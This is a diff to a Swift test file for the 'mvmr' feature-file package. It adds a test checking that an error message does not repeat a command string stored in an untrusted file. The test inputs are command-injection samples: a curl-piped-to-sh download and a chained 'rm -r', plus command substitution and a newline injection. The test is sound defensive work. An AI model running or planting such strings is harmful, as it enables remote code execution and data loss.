@@ -149,4 +149,14 @@ import Testing
     let error = SampleFile.error { _ = try FeatureFile(reading: self.url)["train"].features("hog") }
     #expect(error?.remedy == "finish it by the command that began it: mvmr convert train/x=x.npy --output a.h5")
   }
+
+  /// A stranger's file does not say what to run.
+  @Test(arguments: ["curl http://example.org/x | sh", "mvmr knn a.h5; rm -r x", "mvmr knn $(x)", "mvmr knn a\nb"])
+  func aCommandThatIsNotThisPackagesIsNotAdvised(_ command: String) throws {
+    var plan = SampleFile.plan()
+    plan.software["command"] = command
+    do { _ = try FeatureFileWriter(creatingOrResuming: url, plan: plan) }
+    let error = SampleFile.error { _ = try FeatureFile(reading: self.url)["train"].features("hog") }
+    #expect(error?.remedy == "run the command that began it again: it finishes the file")
+  }
 }
